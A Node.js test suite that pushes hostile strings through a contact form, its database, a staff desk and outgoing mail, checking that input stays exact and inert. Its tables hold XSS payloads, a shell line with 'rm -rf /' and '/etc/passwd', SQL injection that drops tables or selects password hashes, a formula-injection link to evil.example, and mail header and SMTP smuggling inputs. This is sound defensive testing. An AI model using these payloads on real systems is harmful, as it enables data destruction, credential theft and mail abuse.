// Strings that break programs, all the way: form, form shown again, database, desk, mail. The bytes stay
// exact, pages show them as text, and no header, script or query comes out of them.
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';

import { launchBrowser, openPage } from './lib/browser.mjs';
import { addAccount, client, PASSWORD } from './lib/desk.mjs';
import { openForm, postForm, readAnswers, readForm, storedEnquiry, submitForm, unescapeHtml, wholeEnquiry, withoutOwnScript } from './lib/form.mjs';
import { eventually, root, startServer } from './lib/server.mjs';

const LINES = ['name', 'company', 'role', 'phone', 'place', 'call_times'];

/** Of one line, at most 200 characters, in NFC, without space at the ends. */
const STRINGS = {
  script: '<script>window.pwned=1</script>',
  image: '<img src=x onerror="window.pwned=1">',
  'end of the attribute': '" autofocus onfocus="window.pwned=1" x="',
  'end of the attribute with an apostrophe': "' onmouseover='window.pwned=1' x='",
  'end of the textarea': '</textarea></form><form action="https://evil.example"><input name=key>',
  'end of the title': '</title></head><body onload=window.pwned=1><h1>Ours</h1>',
  comment: '--><!-- <![CDATA[ ]]> -->',
  entities: '&lt;b&gt; &amp;amp; &#39; &#0; &notanentity; &copy',
  mustache: '{{name}} {{{body}}} {{#t}} {{/t}} {{>layout}} {{=<% %>=}} {{! x }} {{&x}}',
  'our own marks': '%%submission-key%% %%render-stamp%%',
  quotes: '"\'`´‘’“”«»',
  backslashes: '\\ \\\\ \\n \\0 \\x41 \\u0041 C:\\Windows',
  percent: '%s %n %d %x %00 %0a %25 100% %',
  shell: '`id` $(id) ${IFS} ; rm -rf / | cat & < /etc/passwd > /dev/null # !',
  sql: "'; DROP TABLE enquiry; -- \" OR 1=1 /* */ \\' ); DELETE FROM outbox;",
  'sql without quotes': '1 UNION SELECT password_hash FROM account',
  ldap: '*)(uid=*))(|(uid=*',
  path: '../../../../etc/passwd /dev/null file:///etc/passwd',
  'spreadsheet formula': '=HYPERLINK("https://evil.example","x")+cmd|\' /C calc\'!A0',
  'plus and minus': '+1-1@SUM(1)',
  'header words': 'Bcc: victim@example.com, To: x; Subject: y',
  address: '"A" <evil@example.com>, b@example.com (c) ; group:;',
  'encoded word': '=?UTF-8?B?PHNjcmlwdD4=?= =?UTF-8?Q?=0D=0ABcc:_x?=',
  'mime boundary': '--=_boundary Content-Type: text/html',
  'only a dot': '.',
  'From at the start': 'From nobody Thu Jan 1 00:00:00 1970',
  'right to left': '\u202egnp.exe\u202c \u2067x\u2069 \u200f\u200e \u061c',
  arabic: 'شركة الرور للتكنولوجيا',
  japanese: '株式会社鉄鋼研究所　ドルトムント',
  'emoji joined by ZWJ': '👩‍🔬👨‍👩‍👧‍👦🏳️‍🌈🇩🇪 👍🏿',
  '199 combining marks': `x${'\u0316\u0301'.repeat(99)}\u0316`,
  'beyond the BMP': '𝕴𝖓𝖉𝖚𝖘𝖙𝖗𝖎𝖊 \u{1F3ED} \u{10FFFD}',
  'invisible characters': 'a\u200bb\u00adc\u2060d\ufeffe\u180ef',
  'odd spaces': 'a\u00a0b\u2003c\u3000d\u1680e',
  'line and paragraph separators': 'a\u2028b\u2029c',
  'DEL and C1 controls': 'a\u007fb\u0085c\u009bd',
  'noncharacters': 'a\ufffeb\uffffc\ufdd0d',
  'Turkish and German': 'İıŞşẞßÄ Straße ﬀ',
  'a replacement character': 'a\ufffdb',
  '200 characters without a space': 'W'.repeat(200),
  '200 characters of four bytes': '\u{1F3ED}'.repeat(200),
  'a tab': 'a\tb',
  'words of programmers': 'null NaN undefined true [object Object] nil None 1e309',
};
const ALL = Object.entries(STRINGS);

const MESSAGES = {
  'header injection': 'Hello\nBcc: victim@example.com\nSubject: owned\n\nbody\n',
  'SMTP smuggling': 'a\n.\nMAIL FROM:<x@example.com>\nRCPT TO:<y@example.com>\nDATA\n..\n.\n\n.',
  'CR forms': 'a\r.\r\nb\r\n.\r\nc',
  'mbox': 'x\nFrom nobody\n>From x\n>>From y',
  'long lines': `${'x'.repeat(2500)}\n${'\u{1F3ED}'.repeat(1200)}\n${'y '.repeat(500)}z`,
  'trailing spaces': 'a  \n b\t\n\n\n\nc \n-- \nsig',
  'equals': '=\n==\n=3D=20=\n=?UTF-8?Q?x?=',
  everything: ALL.map(([, text]) => text).join('\n').slice(0, 4500),
};

let server;
let staff;
let number = 0;
before(async () => {
  server = await startServer();
  await addAccount(server, 'ada', 'staff');
  staff = await client(server, 'ada');
});
after(async () => { await server?.stop(); });

const stored = (text) => text.normalize('NFC').replace(/\r\n?/g, '\n').replace(/^[ \t\n]+|[ \t\n]+$/g, '');

/** The drawings of the templates, byte by byte. */
const TEMPLATES = path.join(root, 'www/templates');
const ICONS = readdirSync(TEMPLATES).flatMap((name) => readFileSync(path.join(TEMPLATES, name), 'utf8').match(/<svg [^{}]*?<\/svg>/g) ?? []);
const withoutIcons = (html) => ICONS.reduce((rest, icon) => rest.replaceAll(icon, ''), html);

/** Markup in which nothing that was typed can have become markup: tags as the templates write them,
 * without a script (but the one of the form) or a handler among them, and no angle bracket elsewhere. */
function assertInert(html) {
  const rest = withoutOwnScript(withoutIcons(html)).replace(/<!DOCTYPE html>|<\/[a-z0-9]+>|<([a-z0-9]+)((?: [a-z-]+(?:="[^"<>]*")?)*)>/g, (tag, name = '', attributes = '') => {
    assert.doesNotMatch(name, /^(?:script|iframe|object|embed|base|style|svg)$/, tag);
    for (const [, attribute] of attributes.matchAll(/ ([a-z-]+)(?:="[^"]*")?/g)) assert.doesNotMatch(attribute, /^(?:on|style|srcdoc)/, tag);
    return '';
  });
  assert.doesNotMatch(rest, /.{0,50}[<>].{0,50}/);
}

function textsOf(html, pattern) {
  return [...html.matchAll(pattern)].map(([, text]) => unescapeHtml(text));
}

/** Sends fields, and follows them through the database, the desk and the mail. */
async function follow(fields) {
  const answer = await submitForm(server, fields);
  assert.equal(answer.status, 303, answer.text.slice(0, 300));
  const row = await storedEnquiry(server, answer.location);
  for (const [name, value] of Object.entries(fields)) {
    assert.equal(row[name].toString('hex'), Buffer.from(stored(value)).toString('hex'), name);
  }
  // Link code in every field looks like spam, and is held until staff say otherwise.
  if (row.status === 'quarantined') {
    assert.equal((await staff.post(`/desk/enquiry/${row.reference}/status`, { from: row.status, status: 'new' })).status, 303);
  }
  const inbox = await staff.text('/desk/');
  assertInert(inbox);
  assert.equal(textsOf(inbox, /class="row-link"[^>]*><bdi>([^<]*)<\/bdi>/g)[0], stored(fields.company));
  const detail = await staff.text(`/desk/enquiry/${row.reference}`);
  assertInert(detail);
  assert.deepEqual(textsOf(detail, /<div class="message long"[^>]*>([^<]*)<\/div>/g), [stored(fields.message)]);
  assert.deepEqual(textsOf(detail, /<h1><bdi>([^<]*)<\/bdi>/g), [stored(fields.company)]);
  const values = textsOf(detail, /<dd[^>]*>(?:<a [^>]*>)?([^<]*)(?:<\/a>)?<\/dd>/g);
  for (const name of ['role', 'phone', 'place', 'call_times', 'website', 'email']) assert.ok(values.includes(stored(fields[name])), name);
  for (const [, href] of detail.matchAll(/<dd[^>]*><a href="([^"]*)"/g)) assert.match(href, /^(?:mailto:|tel:\+?\d*$|https?:)/);
  const mail = await eventually(async () => (await server.staffMails()).find(({ subject }) => subject.includes(row.reference)), 'the mail');
  assertMail(mail, row, fields);
  return { row, detail, mail };
}

const HEADERS = ['from', 'reply-to', 'to', 'subject', 'date', 'message-id', 'auto-submitted', 'mime-version', 'content-type',
  'content-language', 'references', 'in-reply-to', 'x-peer', 'x-mailfrom', 'x-rcptto'];

function assertMail(mail, row, fields) {
  const head = mail.raw.replace(/\r\n/g, '\n').split('\n\n')[0];
  const names = head.split('\n').filter((line) => !/^[ \t]/.test(line)).map((line) => line.split(':')[0].toLowerCase());
  assert.deepEqual([...names].sort(), [...HEADERS].sort(), 'these headers, each once, and no other');
  for (const line of head.split('\n')) assert.ok(line.length <= 998 && /^[\x20-\x7e\t]*$/.test(line), line);
  assert.equal(mail.to, 'staff@example.com');
  assert.equal(mail.envelopeTo, 'staff@example.com');
  assert.equal(mail.envelopeFrom, 'in-demand@example.com');
  assert.match(mail.replyTo, new RegExp(`(?:^|<)${fields.email.replace(/[.+]/g, '\\$&')}>?$`));
  assert.equal(mail.replyTo.split('@').length, 2 + mail.replyTo.slice(0, mail.replyTo.lastIndexOf('<') + 1).split('@').length - 1);
  const text = mail.text.replaceAll('\r\n', '\n'); // base64 keeps the line ends of the wire
  assert.ok(text.endsWith(`\n${stored(fields.message)}\n`), JSON.stringify([text.slice(-300), stored(fields.message).slice(-300)]));
  assertInert(mail.html.replace(/<style>[^<]*<\/style>/, ''));
  for (const name of [...LINES, 'website']) assert.ok(text.includes(`: ${stored(fields[name])}\n`), `${name} in\n${text}`);
}

function withString(text) {
  number += 1;
  const fields = { ...wholeEnquiry(), message: `${number}\n${text}` };
  for (const name of LINES) fields[name] = text;
  return fields;
}

describe('in every field:', () => {
  for (const [what, text] of ALL) {
    test(what, async () => {
      const fields = withString(text);
      const shown = await postForm(server, { ...await openForm(server), ...fields, email: `${text}` });
      assert.equal(shown.status, 422);
      assertInert(shown.text);
      const page = readForm(shown.text);
      for (const name of [...LINES, 'message', 'email']) assert.equal(page.values[name], stored({ ...fields, email: text }[name]), name);
      assert.equal(page.action, '/en/contact?');
      const reviewed = await postForm(server, { ...page.values, email: fields.email, comment: text, action: 'review' });
      assert.equal(reviewed.status, 200);
      assertInert(reviewed.text);
      const { carried } = readAnswers(reviewed.text);
      for (const name of [...LINES, 'message']) assert.equal(carried[name], stored(fields[name]), name);
      await follow(fields);
    });
  }
});

describe('as a message:', () => {
  for (const [what, text] of Object.entries(MESSAGES)) test(what, () => follow({ ...wholeEnquiry(` ${what}`), message: text }));
});

test('a header can not be injected through a field of one line', async () => {
  const before = (await server.staffMails()).length;
  for (const name of [...LINES, 'email', 'website']) {
    for (const line of ['%0D%0ABcc:%20x@example.com', '%0ABcc:%20x@example.com', '%0DBcc:%20x@example.com', '%00', '%00%0D%0A%0D%0A']) {
      const answer = await postForm(server, { ...await openForm(server), ...wholeEnquiry(), [name]: { wire: `a${line}b` } });
      assert.equal(answer.status, 422, `${name} ${line}`);
      assert.deepEqual(Object.keys(readForm(answer.text).fieldErrors), [name]);
    }
  }
  assert.equal((await server.staffMails()).length, before);
});

test('nothing typed is in a log', async () => {
  await follow({ ...wholeEnquiry(), name: 'Needle-Name', message: 'Needle-Message', email: 'needle@example.com' });
  for (const name of ['access.log', 'site.log', 'desk.log', 'dispatch.log', 'nginx.log']) {
    assert.doesNotMatch(await server.log(name), /needle|<script|DROP TABLE/i, name);
  }
});

test('in a browser: no script runs, no request leaves, every character is there', async () => {
  const browser = await launchBrowser();
  try {
    const page = await openPage(browser);
    const outside = [];
    page.on('request', (request) => { if (!request.url().startsWith(`${server.base}/`)) outside.push(request.url()); });
    page.on('dialog', (dialog) => {
      if (dialog.type() !== 'beforeunload') outside.push(dialog.message());
      return dialog.accept(); // leaving the form with text in it is meant here
    });
    const message = ALL.map(([, text]) => text).join('\n').slice(0, 4900);
    const fields = { ...wholeEnquiry(), name: STRINGS.script, company: STRINGS['end of the attribute'], role: STRINGS.image,
      place: STRINGS['end of the textarea'], message };
    const form = await openForm(server);
    await page.goto(`${server.base}/en/contact`);
    for (const name of ['name', 'company', 'message']) await page.locator(`[name=${name}]`).fill(fields[name]);
    await page.locator('main button[type=submit]:not([name])').click();
    assert.match(await page.title(), /^Error: /);
    for (const name of ['name', 'company', 'message']) {
      assert.equal(await page.locator(`[name=${name}]`).inputValue(), name === 'message' ? stored(message) : fields[name]);
    }
    const sent = await postForm(server, { ...form, ...fields });
    assert.equal(sent.status, 303);
    const { reference } = await storedEnquiry(server, sent.location);
    const problems = page.problems.filter((problem) => !/status of 422/.test(problem));
    page.problems.length = 0;
    await page.goto(`${server.base}/desk/login`);
    await page.locator('[name=user]').fill('ada');
    await page.locator('[name=password]').fill(PASSWORD);
    await page.locator('main button[type=submit]:not([name])').click();
    await page.goto(`${server.base}/desk/`);
    await page.goto(`${server.base}/desk/enquiry/${reference}`);
    assert.equal(await page.locator('.message').evaluate((element) => element.textContent), stored(message));
    assert.equal(await page.locator('h1').textContent(), fields.company);
    assert.equal(await page.evaluate(() => window.pwned), undefined);
    assert.deepEqual([...problems, ...page.problems], []);
    assert.deepEqual(outside, []);
  } finally {
    await browser.close();
  }
});
